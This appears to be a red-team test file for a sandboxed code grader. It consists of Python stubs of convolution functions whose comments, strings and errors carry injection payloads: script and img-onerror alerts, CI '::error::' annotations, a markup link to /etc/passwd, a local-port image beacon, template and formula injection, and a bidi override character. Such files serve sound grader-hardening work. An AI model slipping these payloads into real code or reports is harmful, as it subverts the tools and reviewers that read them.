# RED-TEAM SUBMISSION attack_262_payloads_in_source  (test material for a sandboxed grader; do not import outside a sandbox)
# class: injection
# success of the attack: markers, module names, comments and line texts of the source act where a report quotes them
# on: lazy

# 评分函数:<script>alert(1)</script>
# GRADED FUNCTION: ::error::x
import nosuch_module_x as q
from nosuch.a import b
x = q.a  # ‮ <img src=x onerror=alert(1)> [bold red]
def zero_pad(X, pad): return q["<script>alert(1)</script> ::error::y"]  # <script>alert(2)</script> `${HOME}` ]]> {{7*7}} =1+1
def conv_single_step(a, W, b): raise KeyError("![i](http://127.0.0.1:48613/i)")  # [link=file:/etc/passwd]x[/link]
def conv_forward(A_prev, W, b, hparameters): return b.c("</pre><script>alert(1)</script>")
def conv_backward(dZ, cache): assert False, "```\n# x\n<b>"
def pool_forwrad(A_prev, hparameters, mode="max"): return 1
del pool_forward
def create_mask_from_window(x): return eval("1 +* 2")
def distribute_value(dz, shape): return __import__("::error::z")
def pool_backward(dA, cache, mode="max"): exec(compile("raise ValueError('<script>')", "<script>alert(3)</script>", "exec"))
